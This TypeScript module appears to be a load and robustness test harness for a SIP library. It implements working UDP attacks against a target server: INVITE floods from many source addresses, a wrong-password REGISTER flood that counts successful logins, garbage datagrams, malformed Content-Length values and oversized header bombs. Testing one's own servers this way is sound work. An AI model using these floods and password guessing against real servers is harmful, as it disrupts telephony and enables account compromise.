/** Floods over UDP: new calls, guessed passwords, garbage. */

import { randomBytes } from "node:crypto";
import { createSocket, type Socket } from "node:dgram";
import { once } from "node:events";
import { answerChallenges } from "@trapezoid/sip/auth";
import { nodeHash } from "@trapezoid/sip/auth/node";
import { parseMessage, SipResponse } from "@trapezoid/sip/message";
import { type Attack, atRate, type Report, type Target } from "./attack.ts";

interface Barrel {
  readonly socket: Socket;
  readonly address: string;
  readonly port: number;
}

async function openBarrel(address: string): Promise<Barrel> {
  const socket = createSocket({ type: "udp4", recvBufferSize: 4 << 20, sendBufferSize: 4 << 20 });
  socket.on("error", () => {});
  socket.bind(0, address);
  await once(socket, "listening");
  return { socket, address, port: socket.address().port };
}

function requestText(target: Target, barrel: Barrel, method: string, key: string, user: string, more = ""): string {
  const isRegister = method === "REGISTER";
  const own = `sip:${user}@${target.domain}`;
  return [
    `${method} ${isRegister ? `sip:${target.domain}` : own} SIP/2.0`,
    `Via: SIP/2.0/UDP ${barrel.address}:${barrel.port};branch=z9hG4bK${key};rport`,
    `From: <${isRegister ? own : `sip:attacker@${barrel.address}`}>;tag=${key}`,
    `To: <${own}>`,
    `Call-ID: ${key}`,
    `CSeq: 1 ${method}`,
    "Max-Forwards: 70",
    `Contact: <sip:attacker@${barrel.address}:${barrel.port}>`,
    `${more}Content-Length: 0\r\n\r\n`,
  ].join("\r\n");
}

/** Every source sends its share, none answers back. */
function callFlood(perSecond: number, sources: number): Attack {
  return async (target) => {
    const prefix = nextNetwork(target.source);
    const barrels = await Promise.all(
      Array.from({ length: sources }, (_, index) =>
        openBarrel(sources === 1 ? target.source : `${prefix}.${index + 1}`),
      ),
    );
    let answered = 0;
    for (const { socket } of barrels) socket.on("message", () => answered++);
    const run = randomBytes(4).toString("hex");
    const sent = await atRate(perSecond, target.seconds, (index) => {
      const barrel = barrels[index % barrels.length]!;
      const text = requestText(target, barrel, "INVITE", `${run}-${index}`, target.user);
      barrel.socket.send(Buffer.from(text, "latin1"), target.udp, target.host);
    });
    for (const { socket } of barrels) socket.close();
    return { sent, answered };
  };
}

/** A distributed flood has a network of its own, next to the attack's address. */
function nextNetwork(address: string): string {
  const [a, b, c] = address.split(".");
  return `${a}.${b}.${Number(c) + 1}`;
}

/** Asks for a challenge and answers it with a wrong password, again and again. */
function passwordFlood(perSecond: number): Attack {
  return async (target) => {
    const barrel = await openBarrel(target.source);
    const run = randomBytes(4).toString("hex");
    let [answered, guesses, admitted, sent] = [0, 0, 0, 0];
    const send = (text: string): void => {
      sent++;
      barrel.socket.send(Buffer.from(text, "latin1"), target.udp, target.host);
    };
    barrel.socket.on("message", (octets) => {
      answered++;
      const parsed = parseMessage(octets.toString("latin1"));
      if (!parsed.ok || !(parsed.value instanceof SipResponse)) return;
      const response = parsed.value;
      if (response.status === 200) admitted++;
      // Half of all requests are answers to a challenge.
      if (response.status !== 401 || response.callId?.endsWith("-guess")) return;
      const answer = answerChallenges({
        hash: nodeHash,
        response,
        account: { user: target.user, password: `guess ${guesses}` },
        method: "REGISTER",
        uri: `sip:${target.domain}`,
      });
      if (!answer.ok) return;
      const more = answer.headers.map(([name, value]) => `${name}: ${value}\r\n`).join("");
      send(requestText(target, barrel, "REGISTER", `${run}-${guesses++}-guess`, target.user, more));
    });
    await atRate(perSecond / 2, target.seconds, (index) =>
      send(requestText(target, barrel, "REGISTER", `${run}-${index}`, target.user)),
    );
    barrel.socket.close();
    const note = admitted > 0 ? `${admitted} let in` : `${guesses} guesses made`;
    return { sent, answered, note };
  };
}

/** Octets that are no SIP: random, text without sense, half a message, nothing but blanks. */
function garbageFlood(perSecond: number): Attack {
  return async (target) => {
    const barrel = await openBarrel(target.source);
    let answered = 0;
    barrel.socket.on("message", () => answered++);
    const pieces = [
      randomBytes(400),
      Buffer.from("GET / HTTP/1.1\r\nHost: example.com\r\n\r\n"),
      Buffer.from(`INVITE sip:${target.user}@${target.domain} SIP/2.0\r\nVia: SIP/2.0/U`),
      Buffer.alloc(64, " "),
      Buffer.from("SIP/2.0 \0\0\0\0\r\n\r\n"),
      Buffer.from(`INVITE ${"a".repeat(1_200)}`),
    ];
    const sent = await atRate(perSecond, target.seconds, (index) =>
      barrel.socket.send(pieces[index % pieces.length]!, target.udp, target.host),
    );
    barrel.socket.close();
    return { sent, answered };
  };
}

/** Content-Length of all kinds, on datagrams. */
const lengthLies: Attack = async (target) => {
  const barrel = await openBarrel(target.source);
  let answered = 0;
  barrel.socket.on("message", () => answered++);
  const run = randomBytes(4).toString("hex");
  const lies = ["-1", "99999999999999999999", "4294967297", "2147483648", "1e9", "0x10", "", "5, 6"];
  const sent = await atRate(1_000, target.seconds, (index) => {
    const text = requestText(target, barrel, "OPTIONS", `${run}-${index}`, target.user);
    const lie = text.replace("Content-Length: 0", `Content-Length: ${lies[index % lies.length]}`);
    barrel.socket.send(Buffer.from(lie, "latin1"), target.udp, target.host);
  });
  barrel.socket.close();
  return { sent, answered };
};

/** The largest datagrams that UDP carries, full of header lines. */
const headerBombs: Attack = async (target) => {
  const barrel = await openBarrel(target.source);
  let answered = 0;
  barrel.socket.on("message", () => answered++);
  const run = randomBytes(4).toString("hex");
  const fillings = [
    "X-A: b\r\n".repeat(8_000),
    "Via: SIP/2.0/UDP a;branch=z9hG4bKa\r\n".repeat(1_700),
    `Via: ${"SIP/2.0/UDP a;branch=z9hG4bKa, ".repeat(2_000)}SIP/2.0/UDP a\r\n`,
    `Subject: ${"(".repeat(60_000)}\r\n`,
    `Contact: ${"<sip:a@b>,".repeat(6_000)}<sip:a@b>\r\n`,
    `Route: ${"<sip:a;lr>,".repeat(5_500)}<sip:a;lr>\r\n`,
    `Authorization: Digest ${'a="b",'.repeat(10_000)}c="d"\r\n`,
  ];
  const sent = await atRate(300, target.seconds, (index) => {
    const text = requestText(
      target,
      barrel,
      "INVITE",
      `${run}-${index}`,
      target.user,
      fillings[index % fillings.length],
    );
    barrel.socket.send(Buffer.from(text.slice(0, 65_000), "latin1"), target.udp, target.host);
  });
  barrel.socket.close();
  return { sent, answered };
};

export const datagramAttacks = {
  "2,000 INVITE/s": callFlood(2_000, 1),
  "2,000 INVITE/s, 200 sources": callFlood(2_000, 200),
  "2,000 REGISTER/s, wrong passwords": passwordFlood(2_000),
  "20,000 garbage datagrams/s": garbageFlood(20_000),
  "lies about Content-Length, UDP": lengthLies,
  "header bombs, UDP": headerBombs,
} as const satisfies Record<string, (target: Target) => Promise<Report>>;
